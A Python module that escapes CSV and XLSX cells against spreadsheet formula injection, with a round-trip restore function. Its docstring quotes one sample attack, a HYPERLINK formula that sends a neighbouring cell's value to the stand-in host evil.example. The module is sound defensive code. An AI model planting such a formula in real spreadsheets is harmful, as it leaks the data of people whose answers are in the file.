"""Spreadsheet cells that a spreadsheet program shows as text, never evaluates.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (and some read a leading tab or carriage return past it), even in a CSV file:
``=HYPERLINK("https://evil.example/?"&A2, "Click")`` in a survey answer would send its
neighbours to another host when a coordinator opens ``responses.csv``. OWASP's CSV-injection
guidance: prefix such a cell with a single quote, which the spreadsheet shows as text.

Every CSV and XLSX cell we write goes through :func:`neutral`; every cell we read through
:func:`restored`, so ``survey collect`` → ``match`` keeps the real value (``=1+1`` stays
``=1+1``). A value that itself starts with a quote before one of those characters gets one
more quote, so restoring is exact for any text.
"""

from __future__ import annotations

import re

#: What makes a spreadsheet evaluate a cell (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Plain numbers are values in every spreadsheet, a minus sign included: left as they are.
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)$")


def _needs_quote(text: str) -> bool:
    if text.startswith(FORMULA_STARTS):
        return not _NUMBER.match(text)
    # A quote before what a reader would restore: one more, so the quote survives.
    return text.startswith("'") and (text[1:2] == "'" or _needs_quote(text[1:]))


def neutral(text: str) -> str:
    """``text`` as a cell no spreadsheet evaluates (``=1+1`` → ``'=1+1``)."""
    return f"'{text}" if text and _needs_quote(text) else text


def restored(text: str) -> str:
    """The value :func:`neutral` was given (``'=1+1`` → ``=1+1``); other text as it is."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text


def neutral_row(cells: list[str]) -> list[str]:
    return [neutral(cell) for cell in cells]
